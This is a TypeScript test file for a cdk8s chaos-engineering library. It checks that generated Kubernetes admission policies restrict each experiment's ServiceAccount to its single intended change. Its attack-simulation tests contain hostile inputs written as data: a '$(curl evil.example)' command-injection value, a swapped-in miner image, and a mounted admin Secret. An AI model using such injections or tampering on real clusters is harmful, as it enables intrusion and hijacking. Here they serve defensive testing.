import { Chart, Testing } from 'cdk8s';
import { AdmissionAction, ChaosAdmissionPolicy, ChaosExperiment, ChaosScenario, EgressRule, HardenedDeployment } from '../src';
import { API_LABELS, API_SERVER, CHART_NATS_BOX_LABELS, CHART_NATS_LABELS, IMAGE, OTLP_EGRESS_JSON, Synthesized, chaosChart, synthExperiment } from './support/chaos';
import { toYaml } from './support/charts';
import { rbacOf } from './support/fake-cluster';
import { synthValid } from './support/manifests';
// eslint-disable-next-line @typescript-eslint/no-require-imports
const { admit } = require('./support/cluster-standin/admission');
// eslint-disable-next-line @typescript-eslint/no-require-imports
const { authorize } = require('./support/cluster-standin/rbac');

const SCENARIOS = [
  ChaosScenario.API_KILL, ChaosScenario.NATS_KILL, ChaosScenario.NETWORK_BLOCK,
  ChaosScenario.ROLLOUT, ChaosScenario.DRAIN, ChaosScenario.OBSERVABILITY_BLOCK,
];
const ADMISSION = 'admissionregistration.k8s.io/v1';
const admissionObjects = (s: Synthesized) => s.objects.filter((o) => o.apiVersion === ADMISSION);
const policyOf = (s: Synthesized) => admissionObjects(s).find((o) => o.kind === 'ValidatingAdmissionPolicy');
const bindingOf = (s: Synthesized) => admissionObjects(s).find((o) => o.kind === 'ValidatingAdmissionPolicyBinding');
const synth = (scenario: ChaosScenario) => synthExperiment({ scenario }, 'orders', { admission: true });

describe('ChaosAdmissionPolicy as synthesized', () => {
  test.each(SCENARIOS)('%s: the policy and its binding', (scenario) => {
    expect(toYaml(admissionObjects(synth(scenario)))).toMatchSnapshot();
  });

  test.each(SCENARIOS)('%s: cluster-scoped, named for the experiment\'s namespace and Job, applies to its ServiceAccount only, fails closed, denies', (scenario) => {
    const s = synth(scenario);
    const [policy, binding] = [policyOf(s), bindingOf(s)];
    for (const o of [policy, binding]) {
      expect(o.metadata.name).toBe(`chaos.orders.orders-${scenario}`);
      expect(o.metadata.namespace).toBeUndefined();
      expect(o.metadata.labels).toMatchObject({ 'app.kubernetes.io/instance': `orders-${scenario}`, 'chaos.cdk8s-hardening.io/scenario': scenario });
    }
    expect(policy.spec.failurePolicy).toBe('Fail');
    expect(policy.spec.matchConditions).toEqual([
      { name: 'experiment-service-account', expression: `request.userInfo.username == "system:serviceaccount:orders:orders-${scenario}"` },
    ]);
    for (const v of policy.spec.validations) expect(v.reason).toBe('Forbidden');
    expect(binding.spec).toEqual({
      policyName: `chaos.orders.orders-${scenario}`,
      validationActions: ['Deny'],
      matchResources: { namespaceSelector: { matchLabels: { 'kubernetes.io/metadata.name': 'orders' } } },
    });
  });

  test.each([
    [ChaosScenario.API_KILL, { apiGroups: [''], apiVersions: ['v1'], resources: ['pods'], operations: ['DELETE'] }],
    [ChaosScenario.NATS_KILL, { apiGroups: [''], apiVersions: ['v1'], resources: ['pods'], operations: ['DELETE'] }],
    [ChaosScenario.DRAIN, { apiGroups: [''], apiVersions: ['v1'], resources: ['pods/eviction'], operations: ['CREATE'] }],
    [ChaosScenario.ROLLOUT, { apiGroups: ['apps'], apiVersions: ['v1'], resources: ['deployments'], operations: ['UPDATE'], resourceNames: ['orders-api'] }],
    [ChaosScenario.NETWORK_BLOCK, { apiGroups: ['networking.k8s.io'], apiVersions: ['v1'], resources: ['networkpolicies'], operations: ['UPDATE'], resourceNames: ['orders-api'] }],
    [ChaosScenario.OBSERVABILITY_BLOCK, { apiGroups: ['networking.k8s.io'], apiVersions: ['v1'], resources: ['networkpolicies'], operations: ['UPDATE'], resourceNames: ['orders-api'] }],
  ])('%s: looks at the one write its scenario makes', (scenario, rule) => {
    expect(policyOf(synth(scenario)).spec.matchConstraints).toEqual({ resourceRules: [rule] });
  });

  test('nats-kill across namespaces: bound in the NATS namespace, for the ServiceAccount of the experiment\'s', () => {
    const chart = new Chart(Testing.app(), 'c', { namespace: 'chaos' });
    const experiment = new ChaosExperiment(chart, 'kill', {
      scenario: ChaosScenario.NATS_KILL,
      apiServer: API_SERVER,
      metadata: { name: 'nats-kill' },
      nats: { statefulSetName: 'nats', podLabels: CHART_NATS_LABELS, namespaceName: 'messaging' },
    });
    new ChaosAdmissionPolicy(chart, 'admission', { experiment });
    const objects = synthValid(chart).filter((o) => o.apiVersion === ADMISSION);
    const [policy, binding] = ['ValidatingAdmissionPolicy', 'ValidatingAdmissionPolicyBinding'].map((k) => objects.find((o) => o.kind === k));
    expect(policy.metadata.name).toBe('chaos.chaos.nats-kill');
    expect(policy.spec.matchConditions[0].expression).toBe('request.userInfo.username == "system:serviceaccount:chaos:nats-kill"');
    expect(binding.spec.matchResources).toEqual({ namespaceSelector: { matchLabels: { 'kubernetes.io/metadata.name': 'messaging' } } });
  });

  test('actions: WARN and AUDIT try the policy without enforcing it', () => {
    const { chart, api } = chaosChart();
    const experiment = new ChaosExperiment(chart, 'kill', { scenario: ChaosScenario.API_KILL, apiServer: API_SERVER, target: api });
    new ChaosAdmissionPolicy(chart, 'admission', { experiment, actions: [AdmissionAction.WARN, AdmissionAction.AUDIT] });
    const binding = synthValid(chart).find((o) => o.kind === 'ValidatingAdmissionPolicyBinding');
    expect(binding.spec.validationActions).toEqual(['Warn', 'Audit']);
  });

  test('network-block: the target\'s rules are read at synth time, so a rule added after the policy is one the restore may put back', () => {
    const { chart, api } = chaosChart();
    const experiment = new ChaosExperiment(chart, 'block', { scenario: ChaosScenario.NETWORK_BLOCK, apiServer: API_SERVER, target: api });
    new ChaosAdmissionPolicy(chart, 'admission', { experiment });
    api.addEgressRule(EgressRule.toCidr('10.20.0.0/16', [5432]));
    const policy = synthValid(chart).find((o) => o.kind === 'ValidatingAdmissionPolicy');
    expect(policy.spec.validations[1].expression).toContain('r.to[0].ipBlock.cidr == "10.20.0.0/16"');
    expect(policy.spec.validations[1].expression).toContain('r.ports[0].port == 5432');
  });
});

describe('ChaosAdmissionPolicy fails', () => {
  const experimentIn = (namespace: string | null, scenario = ChaosScenario.API_KILL, name = 'orders-api') => {
    const chart = new Chart(Testing.app(), 'c', namespace ? { namespace } : {});
    const api = new HardenedDeployment(chart, 'api', { image: IMAGE, metadata: { name }, service: true });
    api.addDisruptionBudget();
    return { chart, experiment: new ChaosExperiment(chart, 'exp', { scenario, apiServer: API_SERVER, target: api }) };
  };

  test('fails for an experiment whose namespace the manifests do not say: the ServiceAccount\'s user name needs it', () => {
    const { chart, experiment } = experimentIn(null);
    expect(() => new ChaosAdmissionPolicy(chart, 'admission', { experiment })).toThrow(
      'experiment must live in a known namespace (a namespace on the chart or in its metadata): the policy names its ServiceAccount '
      + 'as system:serviceaccount:<namespace>:<name>, got "c/exp"');
  });

  test.each([
    [[], 'actions must list AdmissionAction values (Deny, Warn, Audit), each once, got []'],
    [[AdmissionAction.DENY, AdmissionAction.DENY], 'actions must list AdmissionAction values (Deny, Warn, Audit), each once, got ["Deny","Deny"]'],
    [['Block'], 'actions must list AdmissionAction values (Deny, Warn, Audit), each once, got ["Block"]'],
    [[AdmissionAction.DENY, AdmissionAction.WARN], 'actions must not hold both DENY and WARN (the API server refuses the binding: a denied request gets no warning), got ["Deny","Warn"]'],
  ])('fails for actions %j', (actions, message) => {
    const { chart, experiment } = experimentIn('orders');
    expect(() => new ChaosAdmissionPolicy(chart, 'admission', { experiment, actions: actions as AdmissionAction[] })).toThrow(message);
  });

  test('fails for drain on a Deployment whose pods the API server names short (a name over 46 characters)', () => {
    const name = 'a'.repeat(47);
    const { chart, experiment } = experimentIn('orders', ChaosScenario.DRAIN, name);
    expect(() => new ChaosAdmissionPolicy(chart, 'admission', { experiment })).toThrow(
      `experiment must target a Deployment named in 46 characters or fewer for drain: the policy tells its pods by name, which the API server cuts short for longer names, got "${name}"`);
    // 46 characters: the pods keep `<name>-<hash>-<suffix>`
    const fits = experimentIn('orders', ChaosScenario.DRAIN, 'a'.repeat(46));
    expect(() => new ChaosAdmissionPolicy(fits.chart, 'admission', { experiment: fits.experiment })).not.toThrow();
  });

  test('fails for something that is not a ChaosExperiment', () => {
    const chart = new Chart(Testing.app(), 'c', { namespace: 'orders' });
    expect(() => new ChaosAdmissionPolicy(chart, 'admission', { experiment: {} as any })).toThrow('experiment must be a ChaosExperiment, got {}');
  });
});

/**
 * What the API server decides, the policy's CEL evaluated by @bufbuild/cel (through the cluster
 * stand-in's admission part), for the requests the scenario's script makes and for the ones an
 * attacker holding the experiment's token would make. Each attack is first shown to pass RBAC:
 * the Role alone allows it; the policy is what refuses it.
 */
describe('ChaosAdmissionPolicy decides as the API server would', () => {
  interface Request {
    readonly operation: 'CREATE' | 'UPDATE' | 'DELETE';
    readonly group: string;
    readonly resource: string;
    readonly subresource?: string;
    readonly name: string;
    readonly namespace?: string;
    readonly object?: any;
    readonly oldObject?: any;
  }
  const VERBS = { CREATE: 'create', UPDATE: 'patch', DELETE: 'delete' };
  const user = (s: Synthesized) => `system:serviceaccount:orders:${s.job.metadata.name}`;
  const decide = (s: Synthesized, r: Request, username = user(s)) => admit({ admission: admissionObjects(s) }, { version: 'v1', namespace: 'orders', ...r, username });
  /** Whether the experiment's Role allows the request (RBAC, kubernetes rbac.go as rbac.js plays it). */
  const rbacAllows = (s: Synthesized, r: Request) => authorize({ rbac: rbacOf(s.objects, 'orders') }, { verb: VERBS[r.operation], group: r.group, resource: r.resource, subresource: r.subresource, namespace: r.namespace ?? 'orders', name: r.name });
  /** An attack: RBAC lets it through, the policy refuses it with this message. */
  const expectRefused = (s: Synthesized, r: Request, message: string) => {
    expect(rbacAllows(s, r)).toBe(true);
    const qualified = r.group ? `${r.resource}.${r.group}` : r.resource;
    const cause = `ValidatingAdmissionPolicy 'chaos.orders.${s.job.metadata.name}' with binding 'chaos.orders.${s.job.metadata.name}' denied request: ${message}`;
    expect(decide(s, r)).toEqual({
      reason: 'Forbidden',
      code: 403,
      message: `${qualified} "${r.name}" is forbidden: ${cause}`,
      details: { kind: r.resource, name: r.name, cause },
    });
  };
  const expectAdmitted = (s: Synthesized, r: Request) => {
    expect(rbacAllows(s, r)).toBe(true);
    expect(decide(s, r)).toBeNull();
  };

  const pod = (name: string, labels: Record<string, string>, owner?: { kind: string; name: string }) => ({
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: {
      name,
      namespace: 'orders',
      labels,
      ...(owner ? { ownerReferences: [{ apiVersion: 'apps/v1', ...owner, uid: 'u1', controller: true, blockOwnerDeletion: true }] } : {}),
    },
    spec: { containers: [{ name: 'c', image: IMAGE }] },
  });
  const deletePod = (p: any): Request => ({ operation: 'DELETE', group: '', resource: 'pods', name: p.metadata.name, oldObject: p });

  describe('api-kill', () => {
    const s = synth(ChaosScenario.API_KILL);
    const API_MESSAGE = 'api-kill may delete only pods of Deployment orders-api: controlled by its ReplicaSet orders-api-<pod-template-hash> and carrying its selector\'s labels';
    const apiPod = pod('orders-api-7d9-x2x4q', { ...API_LABELS, 'pod-template-hash': '7d9' }, { kind: 'ReplicaSet', name: 'orders-api-7d9' });

    test('deleting a pod of the target Deployment is admitted', () => expectAdmitted(s, deletePod(apiPod)));

    test('deleting any other pod of the namespace (a database, NATS) is refused', () => {
      expectRefused(s, deletePod(pod('postgres-0', { 'app.kubernetes.io/name': 'postgres' }, { kind: 'StatefulSet', name: 'postgres' })), API_MESSAGE);
      expectRefused(s, deletePod(pod('orders-worker-5f6-k8s2d', { 'app.kubernetes.io/name': 'orders-worker', 'pod-template-hash': '5f6' },
        { kind: 'ReplicaSet', name: 'orders-worker-5f6' })), API_MESSAGE);
    });

    test('a pod that only carries the target\'s labels, or names its ReplicaSet with another hash, is refused', () => {
      expectRefused(s, deletePod(pod('decoy', { ...API_LABELS })), API_MESSAGE);
      expectRefused(s, deletePod(pod('decoy', { ...API_LABELS, 'pod-template-hash': 'abc' }, { kind: 'ReplicaSet', name: 'orders-api-7d9' })), API_MESSAGE);
    });

    test('a pod of the ReplicaSet without the selector\'s labels (taken out of the Service by hand) is refused', () => {
      expectRefused(s, deletePod(pod('orders-api-7d9-x2x4q', { 'pod-template-hash': '7d9' }, { kind: 'ReplicaSet', name: 'orders-api-7d9' })), API_MESSAGE);
    });

    test('requests of anyone else are none of its business', () => {
      const other = deletePod(pod('postgres-0', { 'app.kubernetes.io/name': 'postgres' }));
      expect(decide(s, other, 'system:serviceaccount:orders:deployer')).toBeNull();
      expect(decide(s, other, 'alice@example.com')).toBeNull();
    });
  });

  test('a request the policy cannot evaluate is refused: it fails closed, with the error as the API server words it', () => {
    const s = synth(ChaosScenario.ROLLOUT);
    // a pod template without metadata: the policy reads its annotations
    const live = { ...s.apiDeployment, spec: { ...s.apiDeployment.spec, template: { spec: s.apiDeployment.spec.template.spec } } };
    const answer = decide(s, { operation: 'UPDATE', group: 'apps', resource: 'deployments', name: 'orders-api', object: live, oldObject: live });
    expect(answer.reason).toBe('Invalid');
    expect(answer.code).toBe(422);
    expect(answer.details.cause).toMatch(/^ValidatingAdmissionPolicy 'chaos\.orders\.orders-rollout' with binding 'chaos\.orders\.orders-rollout' denied request: expression '.+' resulted in error: /);
  });

  describe('nats-kill', () => {
    const s = synth(ChaosScenario.NATS_KILL);
    const NATS_MESSAGE = 'nats-kill may delete only pods of StatefulSet nats: controlled by it and carrying the labels of its pods';

    test('deleting a pod of the NATS StatefulSet is admitted', () => {
      expectAdmitted(s, deletePod(pod('nats-1', CHART_NATS_LABELS, { kind: 'StatefulSet', name: 'nats' })));
    });

    test('deleting nats-box (same name and instance labels), another StatefulSet\'s pod or a labelled bare pod is refused', () => {
      expectRefused(s, deletePod(pod('nats-box-5c8d7-q2x9z', CHART_NATS_BOX_LABELS, { kind: 'ReplicaSet', name: 'nats-box-5c8d7' })), NATS_MESSAGE);
      expectRefused(s, deletePod(pod('postgres-0', CHART_NATS_LABELS, { kind: 'StatefulSet', name: 'postgres' })), NATS_MESSAGE);
      expectRefused(s, deletePod(pod('nats-9', CHART_NATS_LABELS)), NATS_MESSAGE);
    });
  });

  describe('drain', () => {
    const s = synth(ChaosScenario.DRAIN);
    const DRAIN_MESSAGE = 'drain may evict only pods of Deployment orders-api: named orders-api-<pod-template-hash>-<5 generated characters>';
    const evict = (name: string, deleteOptions?: object): Request => ({
      operation: 'CREATE',
      group: '',
      resource: 'pods',
      subresource: 'eviction',
      name,
      object: { apiVersion: 'policy/v1', kind: 'Eviction', metadata: { name, namespace: 'orders' }, ...(deleteOptions ? { deleteOptions } : {}) },
    });

    test('evicting a pod of the target Deployment is admitted', () => expectAdmitted(s, evict('orders-api-7d9c6b5f4-x2x4q')));

    test.each([
      ['another workload\'s pod', 'postgres-0'],
      ['a pod of a Deployment whose name starts with the target\'s', 'orders-api-worker-5f6-k8s2d'],
      ['a pod of a StatefulSet whose name starts with the target\'s', 'orders-api-db-0'],
      ['a pod of a Job whose name starts with the target\'s', 'orders-api-migrate-x7k2p'],
      ['a pod of a CronJob named as the target', 'orders-api-28391234-abcde'],
      ['a pod without a generated part', 'orders-api'],
    ])('evicting %s is refused', (_what, name) => expectRefused(s, evict(name), DRAIN_MESSAGE));

    test('an eviction that cuts the pod\'s grace period is refused', () => {
      expectRefused(s, evict('orders-api-7d9c6b5f4-x2x4q', { gracePeriodSeconds: 0 }), 'drain may not set the grace period of the pods it evicts');
    });
  });

  describe('rollout', () => {
    const s = synth(ChaosScenario.ROLLOUT);
    const ROLLOUT_MESSAGE = 'rollout may change only the pod template annotation kubectl.kubernetes.io/restartedAt of Deployment orders-api (what kubectl rollout restart sets)';
    const live = { ...s.apiDeployment, metadata: { ...s.apiDeployment.metadata, namespace: 'orders', generation: 3 } };
    const update = (change: (d: any) => void): Request => {
      const object = JSON.parse(JSON.stringify(live));
      change(object);
      return { operation: 'UPDATE', group: 'apps', resource: 'deployments', name: 'orders-api', object, oldObject: live };
    };
    const restart = (d: any, at = '2027-01-15T08:00:00Z') => {
      d.spec.template.metadata.annotations = { ...d.spec.template.metadata.annotations, 'kubectl.kubernetes.io/restartedAt': at };
    };

    test('kubectl rollout restart (the restartedAt annotation, in UTC or with an offset) is admitted', () => {
      expectAdmitted(s, update((d) => restart(d)));
      expectAdmitted(s, update((d) => restart(d, '2027-01-15T09:00:00+01:00')));
    });

    test.each([
      ['another image', (d: any) => (d.spec.template.spec.containers[0].image = 'ghcr.io/attacker/miner:1')],
      ['another ServiceAccount', (d: any) => (d.spec.template.spec.serviceAccountName = 'admin')],
      ['a Secret mounted', (d: any) => d.spec.template.spec.volumes.push({ name: 'x', secret: { secretName: 'nats-admin' } })],
      ['more replicas', (d: any) => (d.spec.replicas = 50)],
      ['another strategy', (d: any) => (d.spec.strategy = { type: 'Recreate' })],
      ['paused', (d: any) => (d.spec.paused = true)],
      ['another pod label', (d: any) => (d.spec.template.metadata.labels.extra = 'x')],
      ['another template annotation', (d: any) => (d.spec.template.metadata.annotations = { 'sidecar.istio.io/inject': 'false' })],
      ['a label on the Deployment', (d: any) => (d.metadata.labels = { ...d.metadata.labels, extra: 'x' })],
      ['finalizers on the pod template (new pods hang in Terminating)', (d: any) => (d.spec.template.metadata.finalizers = ['example.com/hold'])],
      ['a spec field this policy never names', (d: any) => (d.spec.someFutureField = true)],
    ])('a restart that also changes %s is refused', (_what, change) => {
      expectRefused(s, update((d) => {
        restart(d);
        change(d);
      }), ROLLOUT_MESSAGE);
    });

    test('a restartedAt that is no RFC 3339 time is refused', () => {
      expectRefused(s, update((d) => restart(d, '$(curl evil.example)')),
        'rollout sets kubectl.kubernetes.io/restartedAt to a time in RFC 3339, as kubectl rollout restart does');
    });
  });

  describe.each([ChaosScenario.NETWORK_BLOCK, ChaosScenario.OBSERVABILITY_BLOCK])('%s', (scenario) => {
    const s = synth(scenario);
    const RULES_MESSAGE = `${scenario} may give NetworkPolicy orders-api only rules it has in the chart (a switch removes rules, a restore puts them back)`;
    const live = { ...s.apiPolicy, metadata: { ...s.apiPolicy.metadata, namespace: 'orders' } };
    const SWITCHED = { 'chaos.cdk8s-hardening.io/partitioned-by': `orders-${scenario}-x7k2p`, 'chaos.cdk8s-hardening.io/spec-before': JSON.stringify(live.spec) };
    const update = (from: any, change: (p: any) => void): Request => {
      const object = JSON.parse(JSON.stringify(from));
      change(object);
      return { operation: 'UPDATE', group: 'networking.k8s.io', resource: 'networkpolicies', name: 'orders-api', object, oldObject: from };
    };
    const switched = update(live, (p) => {
      p.metadata.annotations = SWITCHED;
      if (scenario === ChaosScenario.NETWORK_BLOCK) Object.assign(p.spec, { ingress: [], egress: [] });
      else p.spec.egress = p.spec.egress.filter((r: any) => JSON.stringify(r) !== JSON.stringify(OTLP_EGRESS_JSON));
    });

    test('the switch and the restore the script makes are admitted', () => {
      expectAdmitted(s, switched);
      expectAdmitted(s, update(switched.object, (p) => {
        delete p.metadata.annotations;
        p.spec = JSON.parse(JSON.stringify(live.spec));
      }));
    });

    test.each([
      ['egress to anywhere', (p: any) => p.spec.egress.push({ to: [{ ipBlock: { cidr: '0.0.0.0/0' } }] })],
      ['ingress from every pod', (p: any) => p.spec.ingress.push({ from: [{ podSelector: {} }] })],
      ['a chart rule on another port', (p: any) => (p.spec.egress[1].ports[0].port = 5432)],
      ['a chart rule opened to every namespace', (p: any) => delete p.spec.egress[1].to[0].namespaceSelector],
    ])('a restore that adds %s is refused', (_what, change) => {
      expectRefused(s, update(switched.object, (p) => {
        delete p.metadata.annotations;
        p.spec = JSON.parse(JSON.stringify(live.spec));
        change(p);
      }), RULES_MESSAGE);
    });

    test('pointing the policy at other pods, or dropping a policy type, is refused', () => {
      const message = `${scenario} may not change the pods of NetworkPolicy orders-api or drop its policy types Ingress and Egress`;
      expectRefused(s, update(live, (p) => (p.spec.podSelector = { matchLabels: { app: 'nothing' } })), message);
      expectRefused(s, update(live, (p) => (p.spec.policyTypes = ['Ingress'])), message);
    });

    test('a switch of a policy that holds a rule the chart does not is refused: the restore could not put it back', () => {
      const edited = { ...live, spec: { ...live.spec, egress: [...live.spec.egress, { to: [{ ipBlock: { cidr: '10.9.0.0/16' } }] }] } };
      expectRefused(s, update(edited, (p) => {
        p.metadata.annotations = SWITCHED;
        p.spec.egress = [];
      }), `${scenario} switches NetworkPolicy orders-api only while it holds the chart's rules: apply the chart first, so that the restore can put back what the switch takes`);
    });

    test('changing the policy\'s labels or other annotations is refused', () => {
      const message = `${scenario} may change only the annotations chaos.cdk8s-hardening.io/partitioned-by and chaos.cdk8s-hardening.io/spec-before of NetworkPolicy orders-api's metadata`;
      expectRefused(s, update(live, (p) => (p.metadata.labels = { app: 'other' })), message);
      expectRefused(s, update(live, (p) => (p.metadata.annotations = { 'argocd.argoproj.io/sync-options': 'Prune=false' })), message);
    });
  });
});
